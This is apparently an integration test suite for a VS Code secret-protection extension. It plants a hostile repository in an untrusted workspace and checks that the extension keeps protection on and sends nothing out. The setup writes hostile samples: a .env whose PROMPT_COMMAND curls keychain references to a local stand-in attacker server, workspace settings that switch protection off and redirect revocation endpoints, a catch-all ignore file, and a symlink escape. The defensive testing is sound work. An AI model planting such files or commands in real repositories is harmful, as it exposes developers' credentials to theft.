// Issue 11: a repository crafted by an attacker, opened the way a fresh clone is — in an untrusted
// workspace (Restricted Mode: `node test/host/run.mjs --untrusted`, part of `npm run test:host`).
// Every trick at once: `.vscode/settings.json` that switches protection off, redirects endpoints,
// declares issuers and an auto-revoke policy, sets custom rules with routing fields and the
// fingerprint key; a `.env` whose PROMPT_COMMAND/BASH_ENV reference keychain secrets; a
// `.tokencustodyignore` that ignores every path; a planted JWT whose `iss` is the attacker's server;
// a symlink out of the workspace. After the suite worked in it: protection stayed on, nothing was
// sent to the attacker's server, no file holds a token, and the output channel named what was refused.
//
// The second suite (any trust): Move to Keychain refuses while a background scan is pending.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { TokenCustodyApi } from '../../../src/extension';
import { fingerprint, keyedFingerprint, type Finding } from '../../../src/engine';
import { ALPHABETS, githubToken, jwt, rand } from '../../support/fakes';
import * as channel from './channel';
import { activateTokenCustody as activate, filesContaining, userDataDir } from './keychainFixture';

describe('hostile repository (untrusted workspace)', function () {
  let api: TokenCustodyApi;
  let server: http.Server | undefined;
  const requests: string[] = [];
  let base = '';
  let token = '';
  let password = '';
  let planted = '';
  let doc: vscode.TextDocument;
  const attackerKey = 'attacker-chosen-' + rand(ALPHABETS.b62, 24);
  const ws = (): string => channel.workspacePath();
  const source = (): string => path.join(ws(), 'src', 'config.ts');

  before(async function () {
    if (process.env.TC_TEST_UNTRUSTED !== '1') this.skip(); // needs `run.mjs --untrusted`
    this.timeout(120_000);
    api = await activate();
    // The attacker's server: every request it gets is a leak (a token, or at least a beacon).
    server = http.createServer((req, res) => {
      requests.push(`${req.method ?? ''} ${req.url ?? ''}`);
      res.setHeader('content-type', 'application/json');
      res.end('{"issuer":"x","revocation_endpoint":"/revoke","introspection_endpoint":"/introspect"}');
    });
    await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    token = githubToken('ghp');
    password = 'Autumn' + '2018!' + rand(ALPHABETS.digits, 2);
    planted = jwt({ iss: base, aud: 'api' });
    const ref = 'keychain://token-custody/GITHUB_TOKEN';
    fs.mkdirSync(path.join(ws(), '.vscode'), { recursive: true });
    fs.mkdirSync(path.join(ws(), 'src'), { recursive: true });
    fs.writeFileSync(path.join(ws(), '.vscode', 'settings.json'), JSON.stringify({
      'tokenCustody.enabled': false,
      'tokenCustody.masking.enabled': false,
      'tokenCustody.terminal.interceptPaste': false,
      'tokenCustody.terminal.watchOutput': false,
      'tokenCustody.exclude': ['**'],
      'tokenCustody.customRules': [{ id: 'evil-openai', name: 'Evil', pattern: 'sk-[A-Za-z0-9]{20,}', issuer: 'evil', revocation: 'oauth-rfc7009', pairsWith: { ruleId: 'jwt', metadataKey: 'iss', withinLines: 50 } }],
      'tokenCustody.endpoints.github': base,
      'tokenCustody.endpoints.gitlab': base,
      'tokenCustody.issuers': [{ id: 'evil', name: 'Evil', pattern: 'ghp_[A-Za-z0-9]{36}', revoke: { url: `${base}/revoke` } }],
      'tokenCustody.policy.autoRevoke': [{ match: '*' }, { match: 'oauth' }, { match: 'github' }],
      'tokenCustody.agents.allowRun': 'allow',
      'tokenCustody.fingerprintKey': attackerKey,
    }, null, 2));
    fs.writeFileSync(path.join(ws(), '.env'), `PROMPT_COMMAND=curl -s ${base}/c?t=${ref}\nBASH_ENV=${ref}\nGITHUB_TOKEN=${ref}\n`);
    fs.writeFileSync(path.join(ws(), '.tokencustodyignore'), '# nothing to see here\npath: **\npath: *\n');
    // A symlink out of the workspace: nothing must be written through it.
    const outside = fs.mkdtempSync(path.join(path.dirname(ws()), 'outside-'));
    fs.symlinkSync(outside, path.join(ws(), 'linked'), 'dir');
    fs.writeFileSync(source(), `export const config = {\n  githubToken: '${token}',\n  DB_PASSWORD: '${password}',\n  session: '${planted}',\n};\n`);
    await channel.waitFor(() => vscode.workspace.getConfiguration('tokenCustody').inspect('enabled')?.workspaceValue === false, 'the workspace settings to be read', 30_000);
    await api.ignore.loadAll();
  });

  after(async function () {
    server?.close();
    if (!api) return;
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await vscode.commands.executeCommand('notifications.clearAll');
  });

  /**
   * The planted file open in `doc` with its three secrets found, as the detection test leaves it (a
   * --grep such as "fingerprint" or "nothing was sent" runs the tests after it without it).
   */
  async function usePlantedDocument(): Promise<readonly Finding[]> {
    doc = await vscode.workspace.openTextDocument(source());
    await vscode.window.showTextDocument(doc);
    return channel.waitFor(() => {
      const fs2 = api.core.store.findings(doc.uri);
      return fs2.some((f) => f.secret === token) && fs2.some((f) => f.secret === password) && fs2.some((f) => f.secret === planted) ? fs2 : undefined;
    }, 'the GitHub token, the password and the JWT to be detected', 30_000);
  }

  it('the workspace is in Restricted Mode and its settings switch nothing off and choose nothing', () => {
    assert.equal(vscode.workspace.isTrusted, false);
    const s = api.core.settings();
    assert.equal(s.enabled, true);
    assert.equal(s.maskingEnabled, true);
    assert.equal(s.interceptPaste, true);
    assert.equal(s.watchOutput, true);
    assert.deepEqual(s.exclude, []);
    assert.deepEqual(s.workspaceCustomRules, [], 'no workspace custom rules in an untrusted workspace');
    for (const [k, v] of Object.entries(s.endpoints)) assert.ok(v === undefined || !v.includes('127.0.0.1'), `endpoints.${k}: ${v}`);
    assert.equal(s.endpoints.github, 'https://api.github.com');
    assert.deepEqual(s.issuers, []);
    assert.deepEqual(s.autoRevoke, []);
    assert.equal(s.agentsAllowRun, 'ask');
    assert.equal(s.fingerprintKey, undefined, 'the workspace cannot set the fingerprint key');
  });

  it('the planted tokens are detected and masked despite path: **, exclude and enabled: false', async () => {
    const findings = await usePlantedDocument();
    assert.ok(!findings.some((f) => f.ruleId.startsWith('evil') || f.issuer === 'evil'), 'no workspace custom rule or issuer ran');
    const gh = findings.find((f) => f.secret === token)!;
    assert.equal(gh.ruleId, 'github-pat-classic');
    const diags = vscode.languages.getDiagnostics(doc.uri).filter((d) => d.source === 'Token Custody');
    assert.ok(diags.length >= 3, `diagnostics: ${diags.length}`);
    assert.ok(diags.every((d) => !d.message.includes(token) && !d.message.includes(password)));
    if (channel.realWorkbench()) {
      const shown = await channel.waitFor(async () => {
        const t = await channel.visibleText('.monaco-editor .view-lines');
        return t && t.includes('githubToken') && !t.includes(token.slice(4)) ? t : undefined;
      }, 'the token to be masked on screen', 20_000);
      assert.ok(!shown.includes(password), 'the password is masked on screen');
    }
  });

  it('the password fingerprint is not keyed by the workspace’s fingerprintKey, nor the public salted SHA-256', async () => {
    await usePlantedDocument();
    const f = api.core.store.findings(doc.uri).find((x) => x.secret === password);
    assert.ok(f);
    assert.notEqual(f.fingerprint, keyedFingerprint(password, attackerKey));
    assert.notEqual(f.fingerprint, fingerprint(password));
    assert.equal(f.fingerprint, api.core.scanners.scanner.fingerprintOf(password, f.ruleId));
    const gh = api.core.store.findings(doc.uri).find((x) => x.secret === token);
    assert.equal(gh?.fingerprint, fingerprint(token), 'tokens keep the salted SHA-256');
  });

  it('Open Terminal with Keychain Secrets is refused in the untrusted workspace: no terminal, no dialog', async () => {
    const before = vscode.window.terminals.length;
    const terminal = await vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
    assert.equal(terminal, undefined);
    assert.equal(vscode.window.terminals.length, before);
    if (channel.realWorkbench()) {
      assert.equal(await channel.dialog(), null, 'no confirmation was shown');
      const toast = await channel.waitFor(async () => (await channel.notifications()).find((n) => n.includes('needs a trusted workspace')), 'the refusal message');
      assert.match(toast, /No terminal was opened/);
      await vscode.commands.executeCommand('notifications.clearAll');
    }
  });

  it('nothing was sent: the server named by the endpoints, the issuers and the JWT iss got no request', async () => {
    await usePlantedDocument(); // what was planted was seen: nothing sent all the same
    // Give auto-revoke and OAuth discovery time to act if they were going to.
    await new Promise((r) => setTimeout(r, 3000));
    assert.deepEqual(requests, []);
    const auto = api.core.custody.allEntries().filter((e) => e.event === 'revoked' || e.event === 'auto-revoked' || e.event === 'checked');
    assert.deepEqual(auto, [], 'no revocation was attempted');
  });

  it('the output channel names what the workspace tried to switch off', async () => {
    const logFile = path.join(api.core.context.logUri.fsPath, 'Token Custody.log');
    const text = await channel.waitFor(() => {
      const t = fs.existsSync(logFile) ? fs.readFileSync(logFile, 'utf8') : '';
      return t.includes('tokenCustody.enabled') && t.includes('path: **') ? t : undefined;
    }, `notices in ${logFile}`, 20_000);
    for (const key of ['enabled', 'masking.enabled', 'terminal.interceptPaste', 'terminal.watchOutput', 'exclude']) {
      assert.match(text, new RegExp(`tokenCustody\\.${key.replace('.', '\\.')} to .*ignored because the workspace is not trusted`), key);
    }
    assert.match(text, /"path: \*\*" ignored because the workspace is not trusted/);
    assert.ok(!text.includes(token) && !text.includes(password));
  });

  it('no file the extension wrote (user data, workspace, through the symlink) holds the token or the password', async () => {
    await usePlantedDocument();
    await api.core.custody.whenReady();
    const userData = userDataDir(api);
    const planted = source();
    for (const secret of [token, password]) {
      const hits = [...filesContaining(userData, secret), ...filesContaining(ws(), secret), ...filesContaining(fs.realpathSync(path.join(ws(), 'linked')), secret)].filter((p) => p !== planted);
      assert.deepEqual(hits, []);
    }
  });
});

describe('Move to keychain while a background scan is pending (issue 11 #11)', function () {
  it('is refused with a message naming the file; the buffer keeps the token and nothing is stored', async function () {
    this.timeout(120_000);
    const api = await activate();
    const token = githubToken('ghp');
    const file = path.join(channel.workspacePath(), `big-${rand(ALPHABETS.hex, 6)}.txt`);
    // Over the 1 MB threshold: scanned in background slices.
    fs.writeFileSync(file, `GITHUB_TOKEN=${token}\n` + ('lorem ipsum dolor sit amet, consectetur adipiscing elit '.repeat(20) + '\n').repeat(3000));
    const doc = await vscode.workspace.openTextDocument(file);
    await vscode.window.showTextDocument(doc);
    try {
      const f = await channel.waitFor(() => {
        const e = api.core.store.get(doc.uri);
        return e && !e.pending ? e.findings.find((x) => x.secret === token) : undefined;
      }, 'the first background scan to find the token', 60_000);
      const range = new vscode.Range(f.range.startLine, f.range.startCol, f.range.endLine, f.range.endCol);
      // A rescan (a setting or the rules changed) starts a new background scan: pending, previous findings kept.
      api.documents.rescanAll();
      assert.equal(api.core.store.get(doc.uri)?.pending, true, 'the rescan is pending');
      const moved = await vscode.commands.executeCommand<boolean>('tokenCustody.moveToKeychain', { uri: doc.uri, range });
      assert.equal(moved, false);
      assert.ok(doc.getText().startsWith(`GITHUB_TOKEN=${token}\n`), 'the buffer keeps the token');
      assert.equal(doc.isDirty, false);
      assert.ok(!api.core.custody.allEntries().some((e) => e.event === 'moved-to-keychain' && e.fingerprint === f.fingerprint), 'nothing was stored');
      if (channel.realWorkbench()) {
        const toast = await channel.waitFor(async () => (await channel.notifications()).find((n) => n.includes('still being scanned in the background')), 'the refusal message');
        assert.match(toast, /nothing was moved/);
        assert.ok(!toast.includes(token));
      }
    } finally {
      await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
      await vscode.commands.executeCommand('notifications.clearAll');
      fs.rmSync(file, { force: true });
    }
  });
});
